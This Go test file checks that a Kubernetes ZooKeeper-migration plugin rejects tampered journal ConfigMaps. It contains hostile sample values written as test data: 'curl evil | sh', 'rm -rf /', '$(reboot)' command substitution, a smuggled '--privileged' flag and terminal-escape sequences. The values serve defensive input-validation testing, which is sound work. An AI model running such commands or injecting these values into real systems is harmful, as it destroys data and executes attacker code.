package journal

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/zkmigrate/kubectl-zkmigrate/pkg/command"
	"github.com/zkmigrate/kubectl-zkmigrate/pkg/render"
)

// journalOf is a ConfigMap as this program writes it, with that text.
func journalOf(name, text string) *corev1.ConfigMap {
	labels := render.Labels(name)
	labels[render.RoleLabel] = render.RoleJournal
	return &corev1.ConfigMap{
		ObjectMeta: metav1.ObjectMeta{Name: render.JournalName(name), Namespace: "zk", Labels: labels},
		Data:       map[string]string{Key: text},
	}
}

func sample(t *testing.T, file string) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", file))
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// TestOldJournalsStayReadable: these files are never changed; journals like them
// are in clusters.
func TestOldJournalsStayReadable(t *testing.T) {
	for _, file := range []string{"wrapped.json", "in-flight.json"} {
		j := New(versioned(t, journalOf("zk1", sample(t, file))), "zk", "zk1")
		rec, err := j.Load(context.Background())
		if err != nil {
			t.Errorf("%s: %v", file, err)
			continue
		}
		if err := j.Save(context.Background(), rec); err != nil {
			t.Errorf("%s is read and cannot be written: %v", file, err)
		}
	}
}

// TestHostileJournalIsRefused: what does not fit is named by its path, shown
// harmlessly and shortened, with the way out; and nothing of it is used.
func TestHostileJournalIsRefused(t *testing.T) {
	for field, change := range map[string][2]string{
		"flight.seed":        {`"seed": "3xabc"`, `"seed": "x; curl evil | sh"`},
		"servers[0].dataDir": {`"dataDir": "/var/lib/zookeeper"`, `"dataDir": "/d\u001b[2J'; rm -rf /; '"`},
		"pods.image":         {`"image": "zookeeper:3.4.13"`, `"image": "zk:1 --privileged"`},
		"pods.command[0]":    {`"zkServer.sh"`, `"a\nb"`},
		"hosts.unit":         {`"unit": "zookeeper.service"`, `"unit": "$(reboot)"`},
		"servers[0].hostIP":  {`"hostIP": "10.0.0.1"`, `"hostIP": "fe80::1%$(reboot)"`},
		"settings.version":   {`"version": "3.4.13"`, `"version": "3.4.13\u009b2J"`},
		"pods.zooCfg":        {`"zooCfg": "`, `"zooCfg": "\u202e`},
		"flight.started":     {`"started": "2026-11-28T05:00:00Z"`, `"started": "0800-11-28T05:00:00Z"`},
		"name":               {"", ""},
		"servers[0].host":    {`"host": "10.0.0.1"`, `"host": "` + strings.Repeat("a", 200<<10) + `"`},
		"is not JSON":        {`{`, "\x1b]0;pwned\a{"},
		"not know":           {`"name": "zk1"`, `"name": "zk1", "\u001b[31m": 1`},
		"has version":        {`"zkmigrate.io/v1alpha1"`, `"\u001b[31m` + strings.Repeat("v", 1<<16) + `"`},
		"bytes":              {`"zk1"`, `"` + strings.Repeat("a", 1<<20) + `"`},
	} {
		text := sample(t, "in-flight.json")
		name := "zk1"
		if field == "name" {
			// The object has the name its record says; no ensemble can have it.
			name = "a;reboot"
			change = [2]string{`"name": "zk1"`, `"name": "a;reboot"`}
		}
		if !strings.Contains(text, change[0]) {
			t.Fatalf("%s: the sample has no %s", field, change[0])
		}
		text = strings.Replace(text, change[0], change[1], 1)
		_, err := New(versioned(t, journalOf(name, text)), "zk", name).Load(context.Background())
		var e *FormatError
		if !errors.As(err, &e) || !e.Permanent() || !strings.Contains(err.Error(), field) {
			t.Errorf("%s: got %.300v", field, err)
			continue
		}
		if s := err.Error(); len(s) > 2000 || strings.ContainsAny(s, "\x1b\a\u009b\u202e") {
			t.Errorf("%s: the message is not harmless: %.300q", field, s)
		}
		if IsBroken(err) && !strings.Contains(err.Error(), "wrap "+map[bool]string{true: "'a;reboot'", false: "zk1"}[field == "name"]+" -n zk restores its copy") {
			t.Errorf("%s: the way out is not named: %v", field, err)
		}
	}
}

// TestJournalOfAnotherObject: a record is believed only where it belongs.
func TestJournalOfAnotherObject(t *testing.T) {
	for want, change := range map[string]func(cm *corev1.ConfigMap){
		"belongs to namespace": func(cm *corev1.ConfigMap) { cm.Data[Key] = strings.Replace(cm.Data[Key], `"zk"`, `"other"`, 1) },
		"is that of ensemble": func(cm *corev1.ConfigMap) {
			cm.Data[Key] = strings.Replace(cm.Data[Key], `"name": "zk1"`, `"name": "zk2"`, 1)
		},
		"label zkmigrate.io/ens": func(cm *corev1.ConfigMap) { cm.Labels[render.EnsembleLabel] = "zk2" },
	} {
		cm := journalOf("zk1", sample(t, "wrapped.json"))
		change(cm)
		kube := versioned(t, cm)
		if _, err := New(kube, "zk", "zk1").Load(context.Background()); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("Load: got %v, want %q", err, want)
		}
		if l, err := List(context.Background(), kube, In("zk"), command.Via{}); err != nil || len(l.Records) != 0 || len(l.Broken) != 1 {
			t.Errorf("List: %v, %v, %v", l.Records, l.Broken, err)
		}
	}
	// The copy is held to the same.
	cm := journalOf("zk1", sample(t, "in-flight.json"))
	cm.Name = render.JournalCopyName("zk1")
	cm.Data[Key] = strings.Replace(cm.Data[Key], `"3xabc"`, `"$(reboot)"`, 1)
	if _, err := New(versioned(t, cm), "zk", "zk1").Copy(context.Background()); err == nil || !strings.Contains(err.Error(), "flight.seed") {
		t.Errorf("Copy: %v", err)
	}
}

// TestUnreadableIsNotWritten: a value that no later command would read is
// refused before it is in the journal.
func TestUnreadableIsNotWritten(t *testing.T) {
	rec := record("zk", "main")
	rec.Servers[0].DataDir = "/d\n; reboot"
	if err := New(versioned(t), "zk", "main").Create(context.Background(), rec); err == nil || !strings.Contains(err.Error(), "servers[0].dataDir") {
		t.Errorf("got %v", err)
	}
}
